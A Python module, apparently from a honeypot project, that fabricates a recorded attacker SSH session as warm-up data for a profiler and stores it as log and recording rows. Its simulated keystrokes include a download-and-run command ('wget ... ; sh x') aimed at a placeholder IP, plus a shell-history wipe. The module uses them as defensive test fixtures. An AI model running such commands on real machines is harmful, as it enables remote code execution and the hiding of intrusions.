"""A visit with a recorded session, as the profiler finds it: for the zygote's warm-up."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from sqlalchemy.ext.asyncio import AsyncSession

from decnet.collect.sessions import SESSION_RECORDED
from decnet.db.tables import Log, SessionRecording, utc_now

_TYPED = "id\runame -a | head\rwget http://192.0.2.1/x; sh x\rls /et\t\x7f\rhistory -c\rexit\r"


async def visit(artifacts: Path, number: int, session: AsyncSession) -> None:
    """The rows and the shard of a session, in the caller's transaction."""
    session_id = f"warm-{number}"
    shard = artifacts / "warm.jsonl"
    header: dict[str, Any] = {"sid": session_id, "version": 2, "env": {"TERM": "xterm"}}
    lines = [header]
    for at, char in enumerate(_TYPED):
        lines.append({"sid": session_id, "event": [0.5 + at * 0.13, "i", char]})
        lines.append({"sid": session_id, "event": [0.5 + at * 0.13, "o", char]})
    with shard.open("a") as file:
        file.writelines(json.dumps(line, separators=(",", ":")) + "\n" for line in lines)
    now = utc_now()
    place: dict[str, Any] = {"decky": "warm", "service": "ssh", "attacker_ip": "192.0.2.1"}
    events: list[tuple[str, dict[str, str]]] = [
        ("connect", {}),
        ("command", {"command": "id"}),
        ("rcpt_to", {"rcpt_to": "<a@warm.example>"}),
        (SESSION_RECORDED, {"session_id": session_id}),
    ]
    for kind, fields in events:
        session.add(Log(timestamp=now, event_type=kind, fields=fields, raw_line="-", **place))
    session.add(
        SessionRecording(
            session_id=session_id,
            started_at=now,
            ended_at=now,
            duration_s=9.0,
            commands=[{"command_text": "id", "ts": now.isoformat()}],
            shard_path=str(shard),
            **place,
        )
    )
